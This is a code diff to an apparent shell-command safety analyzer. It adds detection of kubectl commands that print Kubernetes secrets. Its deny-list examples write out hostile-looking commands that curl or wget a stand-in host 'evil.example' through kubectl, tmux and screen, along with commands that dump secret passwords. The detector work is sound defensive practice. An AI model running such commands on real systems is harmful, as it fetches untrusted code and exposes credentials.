@@ -4,6 +4,7 @@ import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
+import { storeWord } from './credentials.js';
 import { attached, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
 import { bunCode } from './interpreters.js';
 
@@ -625,13 +626,19 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     names: ['kubectl', 'oc', 'minikube', 'k3s'],
     summary: 'kubectl exec|run|debug … -- CMD runs CMD in a pod',
     analyze(call) {
+      // `get secret NAME -o yaml|json|jsonpath=…` prints a secret's data, with the credentials in ~/.kube/config.
+      const words = call.args.map((a) => value(a) ?? '');
+      const get = words.indexOf('get');
+      if (get >= 0 && /^secrets?(\/|$)/.test(words[get + 1] ?? '') && words.some((w, i) => (/^(-o|--output)$/.test(w) && /^(ya?ml|json|jsonpath|go-template|custom-columns)/.test(words[i + 1] ?? '')) || /^(-o|--output=)(ya?ml|json|jsonpath|go-template|custom-columns)/.test(w))) {
+        return { uses: [{ word: storeWord(call.args[get]!, '~/.kube/config'), role: 'read' }] };
+      }
       const at = findSub(call.args, { exec: {}, run: {}, debug: {}, kubectl: {} });
       if (at < 0) return {};
       if (value(call.args[at]) === 'kubectl') return { runs: [{ kind: 'argv', argv: call.args.slice(at), via: call.name }] };
       const dashes = call.args.findIndex((a, i) => i > at && value(a) === '--');
       return { runs: dashes >= 0 && dashes + 1 < call.args.length ? [{ kind: 'argv', argv: call.args.slice(dashes + 1), via: `${call.name} ${value(call.args[at])}` }] : [] };
     },
-    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example'], pass: ['kubectl get pods', 'kubectl exec web -- ls'] },
+    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example', 'kubectl get secret db -o yaml', 'kubectl get secrets/db -o jsonpath={.data.password}'], pass: ['kubectl get pods', 'kubectl exec web -- ls'] },
   },
   { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ["tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'"], pass: ['tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'"] } },
   { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session', analyze: screen, examples: { deny: ['screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ['screen -ls', 'screen -r x'] } },
